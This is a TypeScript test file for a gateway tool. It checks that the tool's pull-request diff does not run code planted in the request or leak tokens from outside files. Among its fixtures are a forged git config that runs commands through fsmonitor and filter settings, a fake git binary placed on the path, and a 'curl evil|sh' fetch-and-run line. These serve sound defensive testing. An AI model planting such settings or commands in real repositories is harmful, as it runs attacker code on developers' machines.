// Pull requests that would choose what git runs, or what they are compared with.
// In: nothing. Out: the cases.
// A file that a pull request adds is a member of a row's `adds`; `-> x` is a link.

import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import {
  chmodSync,
  existsSync,
  mkdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { dirname, join } from 'node:path'
import { describeOrigin } from '../../src/cli/origin.ts'
import { gateway, makeFolder, type Run, runHere } from '../harness/gateway.ts'
import type { Owner } from '../harness/process.ts'
import type { Attack } from './case.ts'

type Files = Readonly<Record<string, string>>

const config = (allow: string, more = '') => `${more}
import { defineGateway, http } from 'portcullis'
export default defineGateway({
  servers: { notes: http({ url: 'https://notes.example/mcp' }) },
  roles: { reader: { allow: { notes: ${allow} } } },
})
`

const FROM_PACKAGE = config('tools', `import tools from 'pk'`)

const pack = (name: string, tools: string): Files => ({
  [`${name}/package.json`]: '{ "main": "index.js" }',
  [`${name}/index.js`]: `module.exports = ${tools}\n`,
})

/** What makes `gw/` look like a repository without a work tree of its own. */
const FORGED = (settings: string): Files => ({
  'gw/HEAD': 'ref: refs/heads/main\n',
  'gw/objects/x': '',
  'gw/refs/x': '',
  'gw/config': settings,
  'gw/.gitattributes': '* filter=x diff=x\n',
})

const RUNS = `[core]
  repositoryformatversion = 0
  bare = false
  worktree = .
  fsmonitor = "touch PWNED; false"
[filter "x"]
  smudge = "touch PWNED; cat"
  clean = "touch PWNED; cat"
`

interface Pull {
  readonly id: string
  /** On the main branch. */
  readonly base?: Files
  /** Of the pull request. */
  readonly adds: Files
  /** In no commit. */
  readonly installed?: Files
  readonly says: RegExp
}

const GAINS = /role reader gains/
const NOTE = /note: both sides use the packages that are now installed/

const PULLS: readonly Pull[] = [
  {
    id: 'S1 a folder that looks like a git directory',
    base: { 'gw/gateway.config.ts': config(`['a']`) },
    adds: { ...FORGED(RUNS), 'gw/gateway.config.ts': config(`['a', 'b']`) },
    says: GAINS,
  },
  {
    id: 'S1 the same above the config, with attributes below',
    base: { 'gw/gateway.config.ts': config(`['a']`) },
    adds: {
      ...Object.fromEntries(
        Object.entries(FORGED(RUNS)).map(([name, text]) => [
          name.slice(3),
          text,
        ]),
      ),
      'gw/.gitattributes': '* filter=x text eol=crlf ident export-subst\n',
      'gw/gateway.config.ts': config(`['a', 'b']`),
    },
    says: GAINS,
  },
  {
    id: 'S1 a git of the pull request in the path',
    base: { 'gw/gateway.config.ts': config(`['a']`) },
    adds: {
      'gw/node_modules/.bin/git': '#!/bin/sh\ntouch PWNED\n',
      'gw/gateway.config.ts': config(`['a', 'b']`),
    },
    says: GAINS,
  },
  {
    id: 'S2 a package that the pull request puts before the one installed',
    base: { 'gw/gateway.config.ts': FROM_PACKAGE },
    installed: pack('node_modules/pk', `['a']`),
    adds: pack('gw/node_modules/pk', `['a', 'b']`),
    says: GAINS,
  },
  {
    id: 'S2 a package that is committed on both sides',
    base: {
      'gw/gateway.config.ts': FROM_PACKAGE,
      ...pack('gw/node_modules/pk', `['a']`),
    },
    adds: pack('gw/node_modules/pk', `['a', 'b']`),
    says: GAINS,
  },
  {
    id: 'S2 a package that is committed beside one installed',
    base: {
      'gw/gateway.config.ts': config(
        '[...tools, ...more]',
        `import tools from 'pk'; import more from '@in/stalled'`,
      ),
      ...pack('gw/node_modules/pk', `['a']`),
    },
    installed: pack('gw/node_modules/@in/stalled', `['c']`),
    adds: pack('gw/node_modules/pk', `['a', 'b']`),
    says: GAINS,
  },
  {
    id: 'S2 a workspace that an installed link leads to',
    base: {
      'gw/gateway.config.ts': FROM_PACKAGE,
      'packages/pk/index.js': `export default ['a']`,
    },
    installed: { 'gw/node_modules/pk': '-> ../../packages/pk' },
    adds: { 'packages/pk/index.js': `export default ['a', 'b']` },
    says: GAINS,
  },
  {
    id: 'S2 a version that only the lockfile names',
    base: { 'gw/gateway.config.ts': FROM_PACKAGE },
    installed: pack('gw/node_modules/pk', `['a']`),
    adds: { 'package-lock.json': '{}' },
    says: NOTE,
  },
]

export const ATTACKS: readonly Attack[] = [
  ...PULLS.map((pull) => ({
    id: pull.id,
    run: (t: Owner) => comparePull(t, pull),
  })),
  { id: 'S1 the programs of a forged folder do run otherwise', run: provePlan },
  { id: 'S2 a package that asks for its place', run: hidePlace },
  { id: 'S2 a command whose change stands behind much else', run: showChange },
  { id: 'S3 tokens in a file of somebody else', run: hideTokens },
  { id: 'S1 a revision, with files of each state', run: tellRevision },
]

async function comparePull(t: Owner, pull: Pull): Promise<void> {
  const { folder, git } = makeProject(t, pull)
  for (const [cwd, args] of [
    [join(folder, 'gw'), []],
    [folder, ['--cwd', 'gw']],
  ] as const) {
    const { stdout, stderr, code } = await compare(cwd, args)
    assert.equal(code, 0, stderr)
    assert.match(stdout, pull.says)
    assert.equal(findTraces(folder), '')
  }
  const gw = join(folder, 'gw')
  const { revision } = await describeOrigin(gw, [join(gw, 'gateway.config.ts')])
  assert.equal(revision, git('-C', folder, 'rev-parse', 'HEAD'))
  assert.equal(findTraces(folder), '')
}

function compare(cwd: string, args: readonly string[]): Promise<Run> {
  const path = [
    join(cwd, 'node_modules/.bin'),
    join(cwd, 'gw/node_modules/.bin'),
  ]
  const PATH = [...path, process.env.PATH].join(':')
  const GIT_DIR = join(cwd, 'nowhere')
  return gateway(['diff', ...args], { cwd, env: { PATH, GIT_DIR } })
}

/** Without it the rows above would say nothing. */
async function provePlan(t: Owner): Promise<void> {
  const [pull = { id: '', adds: {}, says: GAINS }] = PULLS
  const { folder } = makeProject(t, pull)
  try {
    execFileSync('git', ['status'], {
      cwd: join(folder, 'gw'),
      stdio: 'ignore',
    })
  } catch {
    // It need not succeed.
  }
  assert.notEqual(findTraces(folder), '')
}

async function tellRevision(t: Owner): Promise<void> {
  const base = { 'gw/a.ts': 'a\nb\n', 'gw/b.ts': 'b\n', '.gitignore': 'c.ts\n' }
  const { folder, git } = makeProject(t, { base, adds: {} })
  const commit = git('-C', folder, 'rev-parse', 'HEAD')
  const [a, b, c, d] = ['a', 'b', 'c', 'd'].map((name) =>
    join(folder, 'gw', `${name}.ts`),
  ) as [string, string, string, string]
  const tell = async (...files: readonly string[]) =>
    (await describeOrigin(join(folder, 'gw'), files)).revision
  writeFileSync(c, 'ignored')
  assert.equal(await tell(a, b, c, join(folder, 'gw/absent.ts')), commit)
  writeFileSync(a, 'a\r\nb\r\n')
  assert.equal(await tell(a, b), commit, 'as Windows writes it')
  writeFileSync(a, 'a\nc\n')
  assert.equal(await tell(a, b), `${commit}-dirty`)
  assert.equal(await tell(b), commit)
  writeFileSync(d, 'new')
  assert.equal(await tell(b, d), `${commit}-dirty`, 'in no commit')
  git('-C', folder, 'add', d)
  assert.equal(await tell(b, d), `${commit}-dirty`, 'in the index alone')
  rmSync(join(folder, '.git'), { recursive: true })
  assert.equal(await tell(b), null)
}

/** With links and files outside: no side says what it holds, or that it is. */
async function hideTokens(t: Owner): Promise<void> {
  const outside = makeFolder(t, {
    'stray.toml': 'prod = "OUTSIDE-S3CRET"\n',
    'record.toml': '[token.a]\nprod = "OUTSIDE-S3CRET"\n',
    'text.toml': 'OUTSIDE-S3CRET\n',
    'empty.toml': '',
  })
  const { folder } = makeProject(t, {
    adds: { '.env': 'a = "OUTSIDE-S3CRET"\n' },
  })
  const link = join(folder, 'gw/link.toml')
  const check = async (file: string) => {
    writeAll(folder, {
      'gw/gateway.config.json': JSON.stringify({
        servers: { notes: { type: 'http', url: 'https://notes.example/mcp' } },
        roles: {},
        tokens: { file },
      }),
    })
    const cwd = join(folder, 'gw')
    const { stdout, stderr, code } = await runHere(['check'], { cwd })
    assert.notEqual(code, 0, file)
    assert.doesNotMatch(stdout + stderr, /S3CRET/)
    return (stdout + stderr).replaceAll(file, 'FILE')
  }
  await check('../.env')
  const said = new Set<string>()
  for (const name of ['stray', 'record', 'text', 'empty', 'absent']) {
    said.add(await check(join(outside, `${name}.toml`)))
  }
  said.add(await check(outside))
  for (const name of ['stray', 'record', 'absent']) {
    rmSync(link, { force: true })
    symlinkSync(join(outside, `${name}.toml`), link)
    await check('link.toml')
  }
  assert.equal([...said].map(withoutFile).filter(isFirst).length, 1)
}

function withoutFile(text: string): string {
  return text.replaceAll(/\S*gateway-\S+/g, 'FILE')
}

function isFirst(text: string, index: number, all: readonly string[]): boolean {
  return all.indexOf(text) === index
}

async function hidePlace(t: Owner): Promise<void> {
  const spy = `(() => { try { null.x } catch (e) { return [String(
    /gateway-base|node_modules|input/.test(e.stack)) + e.stack.length] } })()`
  const pull = {
    base: { 'gw/gateway.config.ts': FROM_PACKAGE },
    installed: pack('node_modules/pk', spy),
    adds: {},
  }
  const { folder } = makeProject(t, pull)
  const { stdout, stderr } = await compare(join(folder, 'gw'), [])
  assert.match(stdout, /^Access: no access change/, stderr)
  const compiled = await gateway(['compile'], { cwd: join(folder, 'gw') })
  assert.match(compiled.stdout, /"false\d+"/)
}

async function showChange(t: Owner): Promise<void> {
  const server = (more: string) =>
    JSON.stringify({
      servers: {
        a: { type: 'stdio', command: 'sh', args: ['-c', `echo ${more}`] },
      },
      roles: {},
    })
  const long = 'x'.repeat(3_000)
  const { folder } = makeProject(t, {
    base: { 'gw/gateway.config.json': server(`${long} ${long}`) },
    adds: {
      'gw/gateway.config.json': server(`${long}; curl evil|sh; ${long}`),
    },
  })
  const report = ['--report', 'human', '--report', 'markdown=out.md']
  const { stdout } = await compare(join(folder, 'gw'), report)
  const file = readFileSync(join(folder, 'gw/out.md'), 'utf8')
  for (const text of [stdout, file]) {
    assert.match(text, /curl.{1,4}evil.{1,12}sh/)
    assert.ok(text.length < 3_000, 'what is alike is cut')
  }
}

function findTraces(folder: string): string {
  return execFileSync('find', [folder, '-name', 'PWNED'], { encoding: 'utf8' })
}

function makeProject(
  t: Owner,
  pull: Pick<Pull, 'base' | 'adds' | 'installed'>,
) {
  const folder = makeFolder(t)
  const git = (...args: readonly string[]) =>
    execFileSync('git', [...WHO, '--git-dir', join(folder, '.git'), ...args], {
      encoding: 'utf8',
      stdio: ['ignore', 'pipe', 'ignore'],
    }).trim()
  const commit = (files: Files) => {
    writeAll(folder, files)
    git('-C', folder, 'add', '--force', '--all')
    git('-C', folder, 'commit', '--quiet', '--allow-empty', '--message=x')
  }
  git('init', '--quiet', '--initial-branch=main', folder)
  commit(pull.base ?? {})
  git('-C', folder, 'checkout', '--quiet', '-b', 'change')
  commit(pull.adds)
  writeAll(folder, pull.installed ?? {})
  // By the machine of the test, if at all.
  for (const trace of findTraces(folder).split('\n').filter(Boolean)) {
    rmSync(trace)
  }
  return { folder, git }
}

const WHO = ['-c', 'user.name=test', '-c', 'user.email=test@example.com']

function writeAll(folder: string, files: Files): void {
  for (const [name, text] of Object.entries(files)) {
    const file = join(folder, name)
    mkdirSync(dirname(file), { recursive: true })
    if (text.startsWith('-> ')) symlinkSync(text.slice(3), file)
    else writeFileSync(file, text)
    if (name.endsWith('.bin/git')) chmodSync(file, 0o755)
    assert.ok(existsSync(file))
  }
}
